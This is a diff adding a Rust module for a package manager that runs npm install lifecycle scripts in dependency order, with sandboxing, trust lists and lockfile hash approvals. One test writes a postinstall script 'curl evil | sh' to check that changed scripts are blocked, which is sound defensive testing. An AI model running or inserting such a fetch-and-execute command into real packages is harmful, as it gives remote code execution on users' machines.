@@ -0,0 +1,673 @@
+//! Lifecycle script scheduling for installed packages
+//!
+//! Scripts run in dependency order: a package's scripts only start once every
+//! package it (transitively) depends on has finished. Packages on the same level
+//! run in parallel, except when they use the same native build tool, in which
+//! case they are serialized.
+
+use std::collections::{HashMap, HashSet};
+use std::path::{Path, PathBuf};
+use std::sync::Arc;
+use std::time::{Duration, Instant};
+
+use futures::stream::{self, StreamExt};
+use sha2::{Digest, Sha256};
+use tokio::sync::Mutex;
+
+use crate::core::{Lockfile, VelocityError, VelocityResult};
+use crate::installer::linker::{store_entry_name, VIRTUAL_STORE_DIR};
+use crate::resolver::ResolvedPackage;
+use crate::security::sandbox::{NpmEnv, ScriptSandbox};
+use crate::security::SecurityManager;
+
+/// Lifecycle events run on install, in order
+pub const INSTALL_LIFECYCLE: &[&str] = &["preinstall", "install", "postinstall"];
+
+/// Build tools that do not tolerate concurrent invocations well
+const BUILD_TOOLS: &[&str] = &[
+    "node-gyp",
+    "node-pre-gyp",
+    "prebuild-install",
+    "cmake-js",
+    "electron-rebuild",
+];
+
+/// A package whose lifecycle scripts need to run
+#[derive(Debug, Clone)]
+pub struct ScriptJob {
+    /// Package name
+    pub name: String,
+    /// Package version
+    pub version: String,
+    /// Package directory in node_modules
+    pub dir: PathBuf,
+    /// Lifecycle scripts to run (event, command), in order
+    pub scripts: Vec<(String, String)>,
+    /// Build tools used by the scripts
+    pub build_tools: Vec<&'static str>,
+}
+
+/// Outcome of a single lifecycle script
+#[derive(Debug, Clone)]
+pub struct ScriptOutcome {
+    /// Package name
+    pub package: String,
+    /// Package version
+    pub version: String,
+    /// Lifecycle event (preinstall, install, postinstall)
+    pub event: String,
+    /// Whether the script succeeded
+    pub success: bool,
+    /// Exit code if available
+    pub exit_code: Option<i32>,
+    /// Whether the script was killed for exceeding its timeout
+    pub timed_out: bool,
+    /// Whether captured output hit the output limit
+    pub truncated: bool,
+    /// Captured standard output
+    pub stdout: String,
+    /// Captured standard error
+    pub stderr: String,
+    /// Time taken
+    pub duration: Duration,
+}
+
+impl ScriptOutcome {
+    /// Error describing this outcome, if it failed
+    pub fn error(&self, timeout: Option<Duration>) -> Option<VelocityError> {
+        if self.success {
+            return None;
+        }
+
+        if self.timed_out {
+            return Some(VelocityError::ScriptTimeout {
+                package: self.package.clone(),
+                script: self.event.clone(),
+                seconds: timeout.map(|t| t.as_secs()).unwrap_or_default(),
+            });
+        }
+
+        Some(VelocityError::ScriptFailed {
+            package: self.package.clone(),
+            script: self.event.clone(),
+        })
+    }
+
+    /// JSON representation used by `--json` output
+    pub fn to_json(&self) -> serde_json::Value {
+        serde_json::json!({
+            "package": self.package,
+            "version": self.version,
+            "event": self.event,
+            "success": self.success,
+            "exit_code": self.exit_code,
+            "timed_out": self.timed_out,
+            "truncated": self.truncated,
+            "stdout": self.stdout,
+            "stderr": self.stderr,
+            "duration_ms": self.duration.as_millis()
+        })
+    }
+}
+
+/// Why a lifecycle script was not run
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum SkipReason {
+    /// security.allow_scripts is off
+    Disabled,
+    /// Scripts are allowed, but the package is not in security.trusted_packages
+    Untrusted,
+    /// The package's scripts differ from the ones approved in the lockfile
+    Changed,
+}
+
+impl SkipReason {
+    pub fn as_str(&self) -> &'static str {
+        match self {
+            SkipReason::Disabled => "disabled",
+            SkipReason::Untrusted => "untrusted",
+            SkipReason::Changed => "changed",
+        }
+    }
+}
+
+/// A lifecycle script the security policy kept from running
+#[derive(Debug, Clone)]
+pub struct SkippedScript {
+    /// Package name
+    pub package: String,
+    /// Package version
+    pub version: String,
+    /// Lifecycle event (preinstall, install, postinstall)
+    pub event: String,
+    /// Policy that blocked it
+    pub reason: SkipReason,
+}
+
+impl SkippedScript {
+    /// JSON representation used by `--json` output
+    pub fn to_json(&self) -> serde_json::Value {
+        serde_json::json!({
+            "package": self.package,
+            "version": self.version,
+            "event": self.event,
+            "reason": self.reason.as_str()
+        })
+    }
+}
+
+/// Scripts run and skipped during one scheduler run
+#[derive(Debug, Clone, Default)]
+pub struct ScriptReport {
+    /// Outcomes of scripts that ran, in completion order
+    pub outcomes: Vec<ScriptOutcome>,
+    /// Scripts skipped by policy
+    pub skipped: Vec<SkippedScript>,
+    /// Approved script hash per package version, to record in the lockfile
+    pub approved: HashMap<(String, String), String>,
+}
+
+/// Script approvals recorded in the lockfile and granted for this run
+#[derive(Debug, Clone, Default)]
+pub struct ScriptApprovals {
+    /// Hash of the approved scripts per package name
+    pub recorded: HashMap<String, String>,
+    /// Packages approved for this run, even when their scripts changed
+    pub granted: HashSet<String>,
+}
+
+impl ScriptApprovals {
+    /// Approvals recorded in a lockfile
+    pub fn from_lockfile(lockfile: Option<&Lockfile>) -> Self {
+        let recorded = lockfile
+            .map(|lockfile| {
+                lockfile
+                    .packages
+                    .iter()
+                    .filter_map(|p| p.approved_scripts.clone().map(|hash| (p.name.clone(), hash)))
+                    .collect()
+            })
+            .unwrap_or_default();
+        Self { recorded, granted: HashSet::new() }
+    }
+
+    /// Also approve these packages' scripts, replacing earlier approvals
+    pub fn grant(mut self, packages: impl IntoIterator<Item = String>) -> Self {
+        self.granted.extend(packages);
+        self
+    }
+}
+
+/// Runs lifecycle scripts across the dependency graph
+pub struct ScriptScheduler {
+    /// Security manager
+    security: Arc<SecurityManager>,
+    /// Maximum scripts running at once
+    concurrency: usize,
+    /// Installed location of each package version, from the linker
+    package_dirs: HashMap<(String, String), PathBuf>,
+    /// Project the scripts are run for
+    project_dir: PathBuf,
+    /// node_modules directory the packages were linked into
+    modules_dir: PathBuf,
+    /// Scripts approved earlier or for this run
+    approvals: ScriptApprovals,
+    /// npm variables shared by every package's scripts
+    npm_env: NpmEnv,
+}
+
+impl ScriptScheduler {
+    /// Create a new scheduler
+    pub fn new(project_dir: PathBuf, security: Arc<SecurityManager>) -> Self {
+        let concurrency = std::thread::available_parallelism()
+            .map(|n| n.get())
+            .unwrap_or(4);
+
+        Self {
+            modules_dir: project_dir.join("node_modules"),
+            project_dir,
+            security,
+            concurrency,
+            package_dirs: HashMap::new(),
+            approvals: ScriptApprovals::default(),
+            npm_env: NpmEnv::new(),
+        }
+    }
+
+    /// Run scripts approved in the lockfile and hold back ones that changed since
+    pub fn with_approvals(mut self, approvals: ScriptApprovals) -> Self {
+        self.approvals = approvals;
+        self
+    }
+
+    /// Look for packages in a node_modules directory other than the project's
+    pub fn with_modules_dir(mut self, modules_dir: PathBuf) -> Self {
+        self.modules_dir = modules_dir;
+        self
+    }
+
+    /// Base npm environment; each package's own `npm_package_*` are added to it
+    pub fn with_npm_env(mut self, npm_env: NpmEnv) -> Self {
+        self.npm_env = npm_env;
+        self
+    }
+
+    /// Use the linker's package locations instead of guessing them
+    pub fn with_package_dirs(mut self, package_dirs: HashMap<(String, String), PathBuf>) -> Self {
+        self.package_dirs = package_dirs;
+        self
+    }
+
+    /// Collect script jobs grouped into levels that can run in parallel
+    pub fn plan(&self, packages: &[&ResolvedPackage]) -> VelocityResult<Vec<Vec<ScriptJob>>> {
+        let levels = execution_levels(packages);
+        let node_modules = &self.modules_dir;
+
+        let mut grouped: Vec<Vec<ScriptJob>> = Vec::new();
+        for pkg in packages {
+            if !pkg.has_scripts {
+                continue;
+            }
+
+            // Isolated layouts keep transitive packages in the virtual store only
+            let key = (pkg.name.clone(), pkg.version.clone());
+            let mut dir = self
+                .package_dirs
+                .get(&key)
+                .cloned()
+                .unwrap_or_else(|| node_modules.join(&pkg.name));
+            if !dir.exists() {
+                dir = node_modules
+                    .join(VIRTUAL_STORE_DIR)
+                    .join(store_entry_name(&pkg.name, &pkg.version))
+                    .join("node_modules")
+                    .join(&pkg.name);
+            }
+
+            let scripts = lifecycle_scripts(&dir)?;
+            if scripts.is_empty() {
+                continue;
+            }
+
+            let mut build_tools: Vec<&'static str> = BUILD_TOOLS
+                .iter()
+                .copied()
+                .filter(|tool| {
+                    pkg.dependencies.contains_key(*tool)
+                        || scripts.iter().any(|(_, cmd)| cmd.contains(*tool))
+                })
+                .collect();
+            build_tools.sort();
+
+            let level = levels.get(&pkg.name).copied().unwrap_or(0);
+            if grouped.len() <= level {
+                grouped.resize_with(level + 1, Vec::new);
+            }
+            grouped[level].push(ScriptJob {
+                name: pkg.name.clone(),
+                version: pkg.version.clone(),
+                dir,
+                scripts,
+                build_tools,
+            });
+        }
+
+        grouped.retain(|level| !level.is_empty());
+        for level in &mut grouped {
+            level.sort_by(|a, b| a.name.cmp(&b.name));
+        }
+
+        Ok(grouped)
+    }
+
+    /// Run all lifecycle scripts for the given packages
+    ///
+    /// Returns every outcome, including failures, and every script the security
+    /// policy skipped. Once a level has a failing script, later levels are not
+    /// started since they may depend on it.
+    #[tracing::instrument(name = "scripts", skip_all)]
+    pub async fn run(&self, packages: &[&ResolvedPackage]) -> VelocityResult<ScriptReport> {
+        let levels = self.plan(packages)?;
+
+        let tool_locks: HashMap<&'static str, Arc<Mutex<()>>> = BUILD_TOOLS
+            .iter()
+            .map(|tool| (*tool, Arc::new(Mutex::new(()))))
+            .collect();
+
+        let mut report = ScriptReport::default();
+
+        for level in levels {
+            let results: Vec<VelocityResult<ScriptReport>> = stream::iter(level)
+                .map(|job| {
+                    let locks: Vec<Arc<Mutex<()>>> = job
+                        .build_tools
+                        .iter()
+                        .filter_map(|tool| tool_locks.get(tool).cloned())
+                        .collect();
+
+                    async move {
+                        // Tools are sorted, so locks are always taken in the same order
+                        let mut guards = Vec::with_capacity(locks.len());
+                        for lock in &locks {
+                            guards.push(lock.lock().await);
+                        }
+
+                        self.run_job(&job).await
+                    }
+                })
+                .buffer_unordered(self.concurrency)
+                .collect()
+                .await;
+
+            // Finish the whole level before stopping on failures
+            for result in results {
+                let job_report = result?;
+                report.outcomes.extend(job_report.outcomes);
+                report.skipped.extend(job_report.skipped);
+                report.approved.extend(job_report.approved);
+            }
+
+            if report.outcomes.iter().any(|o| !o.success) {
+                break;
+            }
+        }
+
+        Ok(report)
+    }
+
+    /// Run the lifecycle scripts of a single package in order
+    #[tracing::instrument(level = "debug", name = "script", skip_all, fields(package = %job.name, version = %job.version))]
+    async fn run_job(&self, job: &ScriptJob) -> VelocityResult<ScriptReport> {
+        let mut report = ScriptReport::default();
+
+        let env = self.script_env(&job.dir);
+        let manifest_path = job.dir.join("package.json");
+        let manifest: serde_json::Value = std::fs::read_to_string(&manifest_path)
+            .ok()
+            .and_then(|content| serde_json::from_str(&content).ok())
+            .unwrap_or_default();
+        let sandbox = ScriptSandbox::new(job.dir.clone())
+            .with_env(env)
+            .with_npm_env(self.npm_env.clone().with_package(&manifest_path, &manifest))
+            .with_timeout(self.security.script_timeout())
+            .with_output_limit(self.security.script_output_limit())
+            .with_isolation(
+                self.security.script_isolation(&job.name, &job.dir, &[&self.project_dir, &self.modules_dir]),
+                self.security.script_sandbox(),
+            );
+
+        // Approval covers all of a package's scripts; any edit needs a new one
+        let hash = scripts_hash(&job.scripts);
+        let recorded = self.approvals.recorded.get(&job.name);
+        let granted = self.approvals.granted.contains(&job.name);
+        let changed = !granted && recorded.is_some_and(|approved| *approved != hash);
+        let approved = granted || recorded == Some(&hash);
+
+        // Approvals outlive runs that do not execute the scripts
+        if let Some(recorded) = recorded {
+            report.approved.insert((job.name.clone(), job.version.clone()), recorded.clone());
+        }
+
+        for (event, command) in &job.scripts {
+            let skip = if !self.security.scripts_allowed() {
+                Some(SkipReason::Disabled)
+            } else if changed {
+                Some(SkipReason::Changed)
+            } else if !approved && !self.security.should_run_script(&job.name, command)? {
+                Some(SkipReason::Untrusted)
+            } else {
+                None
+            };
+            if let Some(reason) = skip {
+                tracing::debug!("Skipping {} script for {} ({})", event, job.name, reason.as_str());
+                report.skipped.push(SkippedScript {
+                    package: job.name.clone(),
+                    version: job.version.clone(),
+                    event: event.clone(),
+                    reason,
+                });
+                continue;
+            }
+            report.approved.insert((job.name.clone(), job.version.clone()), hash.clone());
+
+            tracing::debug!("Running {} script for {}@{}", event, job.name, job.version);
+            let start = Instant::now();
+            let result = sandbox.execute(&job.name, event, command, &[]).await?;
+
+            if result.timed_out {
+                tracing::warn!("{} script for {} timed out and was killed", event, job.name);
+            }
+
+            report.outcomes.push(ScriptOutcome {
+                package: job.name.clone(),
+                version: job.version.clone(),
+                event: event.clone(),
+                success: result.success,
+                exit_code: result.exit_code,
+                timed_out: result.timed_out,
+                truncated: result.truncated,
+                stdout: result.stdout,
+                stderr: result.stderr,
+                duration: start.elapsed(),
+            });
+
+            // Later lifecycle events of a failed package are skipped
+            if !result.success {
+                break;
+            }
+        }
+
+        Ok(report)
+    }
+
+    /// PATH for scripts: the package's own binaries, then the project's
+    fn script_env(&self, package_dir: &Path) -> HashMap<String, String> {
+        let separator = if cfg!(windows) { ";" } else { ":" };
+        let path = format!(
+            "{}{}{}{}{}",
+            package_dir.join("node_modules").join(".bin").display(),
+            separator,
+            self.modules_dir.join(".bin").display(),
+            separator,
+            std::env::var("PATH").unwrap_or_default()
+        );
+
+        let mut env = HashMap::new();
+        env.insert("PATH".to_string(), path);
+        env
+    }
+}
+
+/// Hash identifying a package's lifecycle scripts, recorded when they are approved
+fn scripts_hash(scripts: &[(String, String)]) -> String {
+    let mut hasher = Sha256::new();
+    for (event, command) in scripts {
+        hasher.update(event.as_bytes());
+        hasher.update(b"\0");
+        hasher.update(command.as_bytes());
+        hasher.update(b"\n");
+    }
+    format!("sha256-{}", hex::encode(hasher.finalize()))
+}
+
+/// Read the install lifecycle scripts from an installed package
+fn lifecycle_scripts(package_dir: &Path) -> VelocityResult<Vec<(String, String)>> {
+    let package_json_path = package_dir.join("package.json");
+    if !package_json_path.exists() {
+        return Ok(Vec::new());
+    }
+
+    let content = std::fs::read_to_string(&package_json_path)?;
+    let pkg: serde_json::Value = serde_json::from_str(&content)?;
+    let scripts = pkg.get("scripts").and_then(|s| s.as_object());
+
+    let mut result = Vec::new();
+    for event in INSTALL_LIFECYCLE {
+        if let Some(command) = scripts.and_then(|s| s.get(*event)).and_then(|c| c.as_str()) {
+            result.push((event.to_string(), command.to_string()));
+        }
+    }
+
+    // Like npm, packages shipping a binding.gyp without install scripts get a node-gyp build
+    let has_install = result.iter().any(|(e, _)| e == "install" || e == "preinstall");
+    if !has_install && package_dir.join("binding.gyp").exists() {
+        result.insert(0, ("install".to_string(), "node-gyp rebuild".to_string()));
+    }
+
+    Ok(result)
+}
+
+/// Compute the execution level of every package
+///
+/// A package's level is one more than the highest level among its dependencies,
+/// so running levels in ascending order guarantees dependencies go first.
+fn execution_levels(packages: &[&ResolvedPackage]) -> HashMap<String, usize> {
+    let by_name: HashMap<&str, &ResolvedPackage> =
+        packages.iter().map(|p| (p.name.as_str(), *p)).collect();
+
+    let mut levels: HashMap<String, usize> = HashMap::new();
+    let mut visiting: HashSet<String> = HashSet::new();
+
+    fn visit(
+        name: &str,
+        by_name: &HashMap<&str, &ResolvedPackage>,
+        levels: &mut HashMap<String, usize>,
+        visiting: &mut HashSet<String>,
+    ) -> usize {
+        if let Some(level) = levels.get(name) {
+            return *level;
+        }
+
+        // Break cycles: a package already on the stack contributes nothing
+        if !visiting.insert(name.to_string()) {
+            return 0;
+        }
+
+        let level = by_name
+            .get(name)
+            .map(|pkg| {
+                pkg.dependencies
+                    .keys()
+                    .chain(pkg.optional_dependencies.keys())
+                    .filter(|dep| by_name.contains_key(dep.as_str()))
+                    .map(|dep| visit(dep, by_name, levels, visiting) + 1)
+                    .max()
+                    .unwrap_or(0)
+            })
+            .unwrap_or(0);
+
+        visiting.remove(name);
+        levels.insert(name.to_string(), level);
+        level
+    }
+
+    for pkg in packages {
+        visit(&pkg.name, &by_name, &mut levels, &mut visiting);
+    }
+
+    levels
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::resolver::test_support;
+
+    /// A package with install scripts depending on any version of `deps`
+    fn package(name: &str, deps: &[&str]) -> ResolvedPackage {
+        let deps: Vec<(&str, &str)> = deps.iter().map(|dep| (*dep, "*")).collect();
+        ResolvedPackage { has_scripts: true, ..test_support::package(name, "1.0.0", &deps) }
+    }
+
+    #[test]
+    fn test_execution_levels_follow_dependencies() {
+        let gyp = package("node-gyp", &[]);
+        let helper = package("helper", &["node-gyp"]);
+        let native = package("native-addon", &["helper"]);
+        let standalone = package("standalone", &[]);
+
+        let levels = execution_levels(&[&native, &helper, &gyp, &standalone]);
+
+        assert_eq!(levels["node-gyp"], 0);
+        assert_eq!(levels["standalone"], 0);
+        assert_eq!(levels["helper"], 1);
+        assert_eq!(levels["native-addon"], 2);
+    }
+
+    #[test]
+    fn test_execution_levels_tolerate_cycles() {
+        let a = package("a", &["b"]);
+        let b = package("b", &["a"]);
+
+        let levels = execution_levels(&[&a, &b]);
+        assert_eq!(levels.len(), 2);
+    }
+
+    #[tokio::test]
+    async fn test_policy_skips_are_reported() {
+        let dir = tempfile::tempdir().unwrap();
+        let package_dir = dir.path().join("node_modules").join("native-addon");
+        std::fs::create_dir_all(&package_dir).unwrap();
+        std::fs::write(
+            package_dir.join("package.json"),
+            r#"{"name": "native-addon", "version": "1.0.0", "scripts": {"install": "exit 1", "postinstall": "exit 1"}}"#,
+        ).unwrap();
+
+        let mut config = crate::core::config::SecurityConfig::default();
+        let native = package("native-addon", &[]);
+
+        let scheduler = ScriptScheduler::new(dir.path().to_path_buf(), Arc::new(SecurityManager::new(&config)));
+        let report = scheduler.run(&[&native]).await.unwrap();
+        assert!(report.outcomes.is_empty());
+        assert_eq!(report.skipped.len(), 2);
+        assert_eq!(report.skipped[0].event, "install");
+        assert_eq!(report.skipped[0].reason, SkipReason::Disabled);
+
+        config.allow_scripts = true;
+        let scheduler = ScriptScheduler::new(dir.path().to_path_buf(), Arc::new(SecurityManager::new(&config)));
+        let report = scheduler.run(&[&native]).await.unwrap();
+        assert!(report.skipped.iter().all(|s| s.reason == SkipReason::Untrusted));
+    }
+
+    #[cfg(unix)]
+    #[tokio::test]
+    async fn test_lockfile_approvals() {
+        let dir = tempfile::tempdir().unwrap();
+        let package_dir = dir.path().join("node_modules").join("native-addon");
+        std::fs::create_dir_all(&package_dir).unwrap();
+        std::fs::write(
+            package_dir.join("package.json"),
+            r#"{"name": "native-addon", "version": "1.0.0", "scripts": {"postinstall": "exit 0"}}"#,
+        ).unwrap();
+
+        let config = crate::core::config::SecurityConfig { allow_scripts: true, ..Default::default() };
+        let security = Arc::new(SecurityManager::new(&config));
+        let native = package("native-addon", &[]);
+        let scheduler = |approvals: ScriptApprovals| {
+            ScriptScheduler::new(dir.path().to_path_buf(), security.clone()).with_approvals(approvals)
+        };
+
+        // Approving records the hash of the scripts that ran
+        let granted = ScriptApprovals::default().grant(["native-addon".to_string()]);
+        let report = scheduler(granted).run(&[&native]).await.unwrap();
+        assert_eq!(report.outcomes.len(), 1);
+        let key = ("native-addon".to_string(), "1.0.0".to_string());
+        let hash = report.approved[&key].clone();
+
+        // The recorded approval alone lets them run again
+        let mut recorded = ScriptApprovals::default();
+        recorded.recorded.insert("native-addon".to_string(), hash.clone());
+        let report = scheduler(recorded.clone()).run(&[&native]).await.unwrap();
+        assert_eq!(report.outcomes.len(), 1);
+
+        // Changed scripts are held back and keep the old approval until re-approved
+        std::fs::write(
+            package_dir.join("package.json"),
+            r#"{"name": "native-addon", "version": "1.0.0", "scripts": {"postinstall": "curl evil | sh"}}"#,
+        ).unwrap();
+        let report = scheduler(recorded).run(&[&native]).await.unwrap();
+        assert!(report.outcomes.is_empty());
+        assert_eq!(report.skipped[0].reason, SkipReason::Changed);
+        assert_eq!(report.approved[&key], hash);
+    }
+}